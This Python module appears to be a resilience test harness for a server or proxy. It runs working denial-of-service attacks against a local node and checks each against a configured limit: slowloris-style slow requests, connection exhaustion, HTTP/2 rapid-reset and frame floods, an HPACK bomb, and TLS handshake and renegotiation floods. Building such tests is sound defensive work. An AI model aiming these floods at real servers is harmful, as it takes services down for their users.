"""What a client may do to a node to keep it from serving others: each attack is a function that a process of its own runs until its
time is over. It gets where the node is and `tell`, and returns a count of what it did; `tell` takes what it found.
"""

import select
import socket
import ssl
import struct
import subprocess
import sys
import time

sys.path.insert(0, __file__.rsplit("/", 2)[0] + "/h2")

from wire import *  # noqa: E402

ATTACKER = "127.0.0.66"


def u32(value):
    return struct.pack(">I", value)


def plain(where, source=ATTACKER, rcvbuf=None):
    one = socket.socket()
    if rcvbuf:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    one.bind((source, 0))
    one.settimeout(5)
    one.connect(where.plain)
    return one


def ended(one):
    """Whether the node has closed a connection."""
    try:
        one.setblocking(False)
        while data := one.recv(65536):
            pass
        return data == b""
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


def hold(where, count, open_one, each, pause, until):
    """Keeps `count` connections open and does `each` with all of them every `pause` seconds; those that the node ends are opened
    again. Returns how many it ended, and how long the oldest lived."""
    held, ends, oldest = [], 0, 0.0
    while time.monotonic() < until:
        begun = time.monotonic()
        while len(held) < count and time.monotonic() < until:
            try:
                held.append((open_one(), time.monotonic()))
            except (OSError, Closed):
                ends += 1
                time.sleep(0.02)
        kept = []
        for one, since in held:
            alive = not ended(one.socket if isinstance(one, Connection) else one)
            if alive:
                try:
                    each(one)
                    kept.append((one, since))
                    continue
                except (OSError, Closed):
                    pass
            ends += 1
            oldest = max(oldest, time.monotonic() - since)
            one.close()
        oldest = max([oldest] + [time.monotonic() - since for _, since in kept])
        held = kept
        time.sleep(max(0.0, pause - (time.monotonic() - begun)))
    for one, _ in held:
        one.close()
    return {"did": count + ends, "ended": ends, "oldest": oldest}


def send_slowly(data):
    def each(one):
        one.setblocking(True)
        one.sendall(data)
    return each


def nothing(_):
    pass


# Connections that do nothing, or little.


def many_connections(where, until):
    return hold(where, 700, lambda: plain(where), nothing, 0.1, until)


def all_connections(each, begin):
    """As many connections as there are, from twenty addresses."""
    def attack(where, until):
        number = iter(range(1 << 30))

        def open_one():
            one = plain(where, source=f"127.0.1.{next(number) % 20 + 1}")
            one.sendall(begin)
            return one
        return hold(where, 500, open_one, each, 0.2, until)
    return attack


def idle(where, until):
    def open_one():
        one = plain(where)
        one.sendall(b"GET / HTTP/1.1\r\nHost: shop.test\r\n\r\n")
        return one
    return hold(where, 300, open_one, nothing, 0.1, until)


def slow_head(where, until):
    def open_one():
        one = plain(where)
        one.sendall(b"GET / HTTP/1.1\r\nHost: shop.test\r\nX: ")
        return one
    return hold(where, 300, open_one, send_slowly(b"a"), 0.5, until)


def slow_body(where, until):
    def open_one():
        one = plain(where)
        one.sendall(b"POST /upload HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n")
        return one
    return hold(where, 300, open_one, send_slowly(b"a"), 0.5, until)


class SlowReader:
    def __init__(self, where):
        self.socket = plain(where, rcvbuf=4096)
        self.socket.sendall(b"GET /large HTTP/1.1\r\nHost: shop.test\r\n\r\n")

    def read(self):
        self.socket.settimeout(0.01)
        try:
            if not self.socket.recv(1):
                raise Closed
        except TimeoutError:
            pass

    def close(self):
        self.socket.close()


def slow_read(where, until):
    """The other end of a reply that is read a byte at a time. What the kernel has taken cannot be looked at without reading it, so the
    end is seen by a reset."""
    readers, ends, oldest = [], 0, 0.0
    while time.monotonic() < until:
        while len(readers) < 200:
            try:
                readers.append((SlowReader(where), time.monotonic()))
            except OSError:
                ends += 1
        kept = []
        for one, since in readers:
            try:
                one.read()
                # Only a reset tells: what is buffered could be read for an hour.
                if one.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) or reset(one.socket):
                    raise Closed
                kept.append((one, since))
            except (OSError, Closed):
                ends += 1
                oldest = max(oldest, time.monotonic() - since)
                one.close()
        readers = kept
        oldest = max([oldest] + [time.monotonic() - since for _, since in kept])
        time.sleep(0.2)
    for one, _ in readers:
        one.close()
    return {"did": 200 + ends, "ended": ends, "oldest": oldest}


def reset(one):
    """Whether the other end is gone, without reading (TCP_INFO's state is no longer ESTABLISHED)."""
    return one.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1


def large_head(where, until):
    did, ends = 0, 0
    while time.monotonic() < until:
        one = plain(where)
        try:
            one.sendall(b"GET / HTTP/1.1\r\nHost: shop.test\r\n" + b"X: " + b"a" * 70_000)
            ends += b" 431 " in one.recv(100)
        except OSError:
            ends += 1
        did += 1
        one.close()
    return {"did": did, "ended": ends}


def pipelined(where, until):
    """Requests that need no upstream, as many as fit."""
    did, request = 0, b"GET / HTTP/1.1\r\nHost: shop.test\r\nExpect: nonsense\r\n\r\n"
    batch = request * 500
    one = plain(where)
    while time.monotonic() < until:
        one.setblocking(False)
        try:
            left = batch
            while left and time.monotonic() < until:
                readable, writable, _ = select.select([one], [one], [], 1)
                if readable and not one.recv(1 << 20):
                    raise Closed
                left = left[one.send(left):] if writable else left
            did += 500
        except (OSError, Closed):
            one.close()
            one = plain(where)
    return {"did": did}


# HTTP/2.


def h2(where, **rest):
    return Connection(where.plain, source=ATTACKER, **rest)


def flood(make, frames_each):
    """Sends what `make` makes, over and over, on one connection after the other."""
    def attack(where, until):
        did, ends = 0, 0
        batch = make()
        while time.monotonic() < until:
            connection = h2(where)
            try:
                while time.monotonic() < until:
                    connection.send(batch)
                    did += frames_each
                    ready, _, _ = select.select([connection.socket], [], [], 0)
                    if ready and goes(connection):
                        break
            except (Closed, OSError):
                pass
            ends += 1
            connection.close()
        return {"did": did, "ended": ends}
    return attack


def goes(connection):
    """Whether GOAWAY has come, or the end."""
    try:
        while True:
            if connection.receive(0.001)[0] == GOAWAY:
                return True
    except TimeoutError:
        connection.socket.settimeout(5)
        return False
    except Closed:
        return True


def resets(path, method, streams, pause):
    """Opens so many streams at once and gives them up after `pause` seconds, over and over, on one connection after the other."""
    def attack(where, until):
        did, ends = 0, 0
        while time.monotonic() < until:
            connection, first = h2(where), 1
            try:
                while time.monotonic() < until and first < 1_000_000:
                    numbers = range(first, first + 2 * streams, 2)
                    opened = [headers(one, request(path, method=method), END_HEADERS | (END_STREAM if method == "GET" else 0)) for one in numbers]
                    given_up = [frame(RST_STREAM, 0, one, u32(CANCEL)) for one in numbers]
                    if pause:
                        connection.send(b"".join(opened))
                        time.sleep(pause)
                        connection.send(b"".join(given_up))
                    else:
                        connection.send(b"".join(part for pair in zip(opened, given_up) for part in pair))
                    first += 2 * streams
                    did += streams
                    ready, _, _ = select.select([connection.socket], [], [], 0)
                    if ready and goes(connection):
                        break
            except (Closed, OSError):
                pass
            ends += 1
            connection.close()
        return {"did": did, "ended": ends}
    return attack


rapid_reset = resets("/", "GET", 100, 0)
# Resets that come when the requests are under way.
slower_reset = resets("/upload", "POST", 20, 0.005)


def hpack_bomb(where, until):
    """A field of 4 KB in the dynamic table, and a thousand references to it for a byte each."""
    did, ends = 0, 0
    bomb = request() + field("x", "a" * 3900, 0x40)
    while time.monotonic() < until:
        connection = h2(where)
        try:
            connection.send(headers(1, bomb) + headers(3, request() + b"\xbe" * 16000) + headers(5, request() + b"\xbe" * 16000))
            while True:
                kind, _, stream, payload = connection.receive(5)
                if kind == GOAWAY or stream == 5 and kind in (HEADERS, RST_STREAM):
                    ends += 1
                    break
        except (Closed, OSError):
            ends += 1
        did += 1
        connection.close()
    return {"did": did, "ended": ends}


def many_streams(where, until):
    """A hundred requests on each connection whose bodies never end."""
    def open_one():
        connection = h2(where)
        post = [headers(stream, request("/upload", method="POST"), END_HEADERS) for stream in range(1, 401, 2)]
        connection.send(b"".join(post))
        return connection
    return hold(where, 50, open_one, nothing, 0.2, until)


def zero_window(where, until):
    """A hundred large replies on each connection, and no window for them."""
    def open_one():
        connection = h2(where, initial=((4, 0),))
        connection.send(b"".join(get(stream, "/large") for stream in range(1, 201, 2)))
        return connection
    return hold(where, 10, open_one, nothing, 0.2, until)


def unread_answers(where, until):
    """PING over and over, and none of the answers are read."""
    did = 0
    while time.monotonic() < until:
        connection = h2(where, rcvbuf=4096)
        connection.socket.settimeout(0.2)
        try:
            while time.monotonic() < until:
                connection.socket.send(frame(PING, 0, 0, b"12345678") * 200)
                did += 200
        except OSError:
            pass
        connection.close()
    return {"did": did}


# TLS.


def hello():
    """The greeting of a real client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        tls_context().wrap_bio(incoming, outgoing, server_hostname="shop.test").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_handshakes(where, until):
    def open_one():
        one = socket.socket()
        one.bind((ATTACKER, 0))
        one.settimeout(5)
        one.connect(where.tls)
        return one
    return hold(where, 300, open_one, nothing, 0.1, until)


def handshake_flood(where, until):
    """Greetings as fast as they can be sent; what is answered is thrown away."""
    did, greeting, open_ones = 0, hello(), []
    while time.monotonic() < until:
        one = socket.socket()
        try:
            one.bind((ATTACKER, 0))
            one.settimeout(1)
            one.connect(where.tls)
            one.sendall(greeting)
            did += 1
            open_ones.append(one)
        except OSError:
            one.close()
        if len(open_ones) > 200:
            open_ones.pop(0).close()
    return {"did": did}


def s_client(where, command, pace, *args):
    client = subprocess.Popen(["openssl", "s_client", "-connect", "%s:%d" % where.tls, "-servername", "shop.test", *args],
                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    did = 0
    try:
        time.sleep(0.3)
        while client.poll() is None and did < 2_000:
            client.stdin.write(command)
            client.stdin.flush()
            did += 1
            time.sleep(pace)
    except BrokenPipeError:
        pass
    finally:
        client.kill()
        client.wait()
    return did


def key_updates(where, until):
    did, ends = 0, 0
    while time.monotonic() < until:
        did += s_client(where, b"K\n", 0.005, "-tls1_3")
        ends += 1
    return {"did": did, "ended": ends}


def renegotiation(where, until):
    did, ends = 0, 0
    while time.monotonic() < until:
        did += s_client(where, b"R\n", 0.05, "-tls1_2")
        ends += 1
    return {"did": did, "ended": ends}


EMPTY_HEADERS_POST = lambda: headers(1, request("/upload", method="POST"), END_HEADERS)  # noqa: E731

# Name, attack, what bounds it, the limit that must have been met (None: seen by what the attacker tells), settings for it.
ATTACKS = [
    ("many connections", many_connections, "512 for an address", "connections_per_address", ""),
    ("all connections, idle", all_connections(nothing, b""), "oldest idle go first", "overload_idle", "connections = 300"),
    ("all connections, slow", all_connections(send_slowly(b"a"), b"GET / HTTP/1.1\r\nHost: shop.test\r\nX: "),
     "unknown clients are refused", "overload_connection", "connections = 300"),
    ("idle connections", idle, "idle_time", None, 'idle_time = "2s"'),
    ("slow heads", slow_head, "head_time", "head_time", 'head_time = "2s"'),
    ("slow bodies", slow_body, "body_pause, body_rate", "body_rate", 'body_pause = "2s"'),
    ("slow readers", slow_read, "reply_pause, reply_rate", "reply_rate", 'reply_pause = "2s"'),
    ("large heads", large_head, "head_size", None, ""),
    ("pipelined requests", pipelined, "turns", None, ""),
    ("rapid reset", rapid_reset, "h2_resets", "h2_codec", ""),
    ("slower reset", slower_reset, "h2_resets", "h2_resets", ""),
    ("CONTINUATION flood", flood(lambda: headers(1, request(), 0) + frame(CONTINUATION, 0, 1, b"") * 200, 200), "the codec", "h2_codec", ""),
    ("SETTINGS flood", flood(lambda: settings((4, 65535)) * 200, 200), "h2_control_frames", "h2_control_frames", ""),
    ("PING flood", flood(lambda: frame(PING, 0, 0, b"12345678") * 200, 200), "h2_control_frames", "h2_control_frames", ""),
    ("unread PING answers", unread_answers, "nothing is read while answers wait", None, 'idle_time = "2s"'),
    ("PRIORITY flood", flood(lambda: frame(PRIORITY, 0, 1, u32(0) + b"\x10") * 200, 200), "h2_control_frames", "h2_control_frames", ""),
    ("WINDOW_UPDATE flood", flood(lambda: frame(WINDOW_UPDATE, 0, 0, u32(1)) * 200, 200), "h2_control_frames", "h2_control_frames", ""),
    ("empty DATA flood", flood(lambda: EMPTY_HEADERS_POST() + frame(DATA, 0, 1, b"") * 200, 200), "the codec", "h2_codec", ""),
    ("unknown frames", flood(lambda: frame(0x42, 0, 0, b"") * 200, 200), "h2_control_frames", "h2_control_frames", ""),
    ("HPACK bomb", hpack_bomb, "head_size", None, ""),
    ("many streams", many_streams, "h2_streams, body_pause", "body_rate", 'body_pause = "2s"'),
    ("no window", zero_window, "reply_pause", "reply_rate", 'reply_pause = "2s"'),
    ("half handshakes", half_handshakes, "handshakes_per_address, handshake_time", None, 'handshake_time = "2s"'),
    ("handshake flood", handshake_flood, "handshake_rate", "handshake_rate", ""),
    ("key updates", key_updates, "32 without data", None, ""),
    ("renegotiation", renegotiation, "none is taken", None, ""),
]
